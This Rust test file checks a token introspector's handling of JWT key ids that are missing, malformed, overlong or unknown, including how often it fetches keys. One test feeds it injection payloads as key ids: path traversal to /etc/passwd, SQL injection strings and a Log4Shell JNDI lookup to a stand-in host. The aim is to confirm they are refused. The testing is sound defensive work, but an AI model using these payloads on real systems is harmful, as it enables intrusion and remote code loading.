//! Names of keys: missing, odd, unknown.

use serde_json::json;

use crate::corpus::{HEADER, NO_KEY_ID, Row, Table, UNKNOWN_KEY, check, check_with, row, rows};
use crate::introspector::{Introspector, assert_inactive};

pub const TABLES: &[Table] = &[missing, odd, long, too_long];

fn missing(with: &Introspector) -> Vec<Row> {
    let values = ["", "null", "1", "true", "[\"RS256\"]", "{\"RS256\":1}"];
    let tokens = values.map(|value| (value, with.token_headed(&[("kid", value)])));
    rows(tokens, NO_KEY_ID)
}

#[tokio::test]
async fn j11_j12_a_token_without_a_name_of_its_key_is_refused() {
    check(missing).await;
}

fn named(with: &Introspector, id: &str) -> String {
    with.token_headed(&[("kid", &json!(id).to_string())])
}

fn odd(with: &Introspector) -> Vec<Row> {
    let ids = [
        "",
        "\0",
        "\n",
        "RS256\n",
        "RS256\0",
        "\u{1f511}",
        "\u{e9}",
        "\u{202e}652SR",
        "\u{7f}",
    ];
    rows(ids.map(|id| (json!(id), named(with, id))), UNKNOWN_KEY)
}

fn long(with: &Introspector) -> Vec<Row> {
    let lengths = [257, 1_000, 16_000];
    let ids = lengths.map(|length| "k".repeat(length));
    rows(ids.map(|id| (id.len(), named(with, &id))), UNKNOWN_KEY)
}

#[tokio::test]
async fn j12_an_odd_or_long_key_id_is_unknown_and_fetches_nothing() {
    let with = Introspector::start().await;
    let fetches = with.fetches();

    check_with(&with, odd(&with)).await;
    check_with(&with, long(&with)).await;

    assert_eq!(with.fetches(), fetches);
}

fn too_long(with: &Introspector) -> Vec<Row> {
    vec![row("30 KiB", named(with, &"k".repeat(30 * 1024)), HEADER)]
}

#[tokio::test]
async fn j12_a_key_id_that_makes_the_token_too_long_is_not_read() {
    check(too_long).await;
}

#[tokio::test]
async fn j12_a_key_id_of_64_kib_is_a_body_that_is_too_large() {
    let with = Introspector::start().await;

    let answer = with.ask(&named(&with, &"k".repeat(64 * 1024))).await;

    assert_eq!(answer.status, 413);
}

#[tokio::test]
async fn j12_a_key_id_is_nothing_but_a_name() {
    let with = Introspector::start().await;
    let ids = [
        "../../dev/null",
        "/etc/passwd",
        "' OR '1'='1",
        "\"; DROP TABLE keys; --",
        "${jndi:ldap://m4rk3r.test}",
        "http://m4rk3r.test/key",
        "rs256",
        "RS256 ",
        " RS256",
        "*",
    ];

    let table = rows(ids.map(|id| (id, named(&with, id))), UNKNOWN_KEY);

    check_with(&with, table).await;
}

#[tokio::test]
async fn j13_an_unknown_key_id_is_refused_after_one_fetch() {
    let with = Introspector::start().await;
    let fetches = with.fetches();

    let answer = with.ask(&named(&with, "unknown")).await;

    assert_inactive(
        &answer,
        "token can not be validated with this identity provider",
    );
    assert_eq!(with.fetches(), fetches + 1);
}

#[tokio::test]
async fn j13_unknown_key_ids_do_not_fetch_for_ever() {
    let with = Introspector::start().await;
    let fetches = with.fetches();

    for number in 0..50 {
        let answer = with.ask(&named(&with, &format!("unknown-{number}"))).await;
        assert_inactive(
            &answer,
            "token can not be validated with this identity provider",
        );
    }

    assert_eq!(with.fetches(), fetches + 4);
    let good = with.ask(&with.good_token()).await;
    assert_eq!(good.json()["active"], true);
}
